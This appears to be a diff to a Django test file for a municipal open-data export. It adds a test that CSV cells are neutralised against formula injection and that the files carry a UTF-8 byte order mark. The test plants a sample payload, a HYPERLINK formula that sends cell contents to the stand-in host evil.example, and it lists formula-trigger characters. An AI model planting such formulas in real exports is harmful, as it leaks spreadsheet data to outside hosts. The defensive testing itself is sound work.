@@ -51,12 +51,12 @@ def test_every_column_is_documented_and_rows_match_the_database(client, built, t
     descriptor = json.loads((folder / "datapackage.json").read_text())
     assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
     for resource in descriptor["resources"]:
-        header = next(csv.reader((folder / resource["path"]).open(encoding="utf-8")))
+        header = next(csv.reader((folder / resource["path"]).open(encoding="utf-8-sig")))
         assert header == [f["name"] for f in resource["schema"]["fields"]]
         assert all(f["description"] and f["type"] for f in resource["schema"]["fields"])
-    measures = list(csv.DictReader((folder / "measures.csv").open(encoding="utf-8")))
+    measures = list(csv.DictReader((folder / "measures.csv").open(encoding="utf-8-sig")))
     assert [int(r["measure_id"]) for r in measures] == [m.pk for m in built.measures]
-    progress = list(csv.DictReader((folder / "progress.csv").open(encoding="utf-8")))
+    progress = list(csv.DictReader((folder / "progress.csv").open(encoding="utf-8-sig")))
     assert len(progress) == len(built.measures)  # one period
     reported = {int(r["measure_id"]): r for r in progress if r["reported"] == "true"}
     assert set(reported) == {r.measure_id for r in built.reports}
@@ -103,3 +103,39 @@ def test_plan_json_export_then_import_gives_the_same_plan(client, built):
     original, again = export_plan(built.plan), export_plan(copy)
     original.pop("municipality"), again.pop("municipality")
     assert again == original
+
+
+@pytest.mark.django_db
+def test_csv_cells_never_start_a_formula_and_open_in_excel_as_utf8(client, tmp_path):
+    """A reporter's "=HYPERLINK(...)" is text in every CSV (OWASP CSV injection); plan.json keeps it as typed.
+
+    Excel on a Bulgarian Windows needs the byte order mark to read UTF-8; the package stays valid with it.
+    """
+    built = factories.full_year(unreported=0)
+    planted = '=HYPERLINK("http://evil.example/?x="&A1,"Натисни")'
+    measure = built.measures[0]
+    measure.text, measure.responsible_raw = "+359 телефон на медиатора", "@Община"
+    measure.save(update_fields=["text", "responsible_raw"])
+    report = built.reports[0]
+    report.done_text = planted
+    report.save(update_fields=["done_text"])
+    files = {}
+    for name in ("measures.csv", "progress.csv", "indicators.csv"):
+        response = client.get(f"/open-data/plans/{built.plan.pk}/{name}")
+        assert response.content.startswith(b"\xef\xbb\xbf"), name
+        files[name] = response.content.decode("utf-8-sig")
+    texts = [cell for content in files.values() for row in csv.reader(io.StringIO(content)) for cell in row]
+    assert not [cell for cell in texts if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    progress = {r["measure_id"]: r for r in csv.DictReader(io.StringIO(files["progress.csv"]))}
+    assert progress[str(measure.pk)]["done"] == "'" + planted
+    measures = {r["measure_id"]: r for r in csv.DictReader(io.StringIO(files["measures.csv"]))}
+    assert measures[str(measure.pk)]["text"] == "'+359 телефон на медиатора"
+    assert measures[str(measure.pk)]["responsible"] == "'@Община"
+    published = client.get(f"/open-data/plans/{built.plan.pk}/plan.json").json()
+    assert published["progress"][0]["measures"][0]["done"] == planted
+    folder = _unzip(client.get(f"/open-data/plans/{built.plan.pk}/datapackage.zip").content, tmp_path / "pkg")
+    result = subprocess.run(  # noqa: S603  (our own venv's frictionless on our own file)
+        [str(FRICTIONLESS), "validate", "--json", str(folder / "datapackage.json")],
+        capture_output=True, text=True, timeout=120, cwd=folder,
+    )
+    assert json.loads(result.stdout)["valid"] is True, result.stdout[:3000]
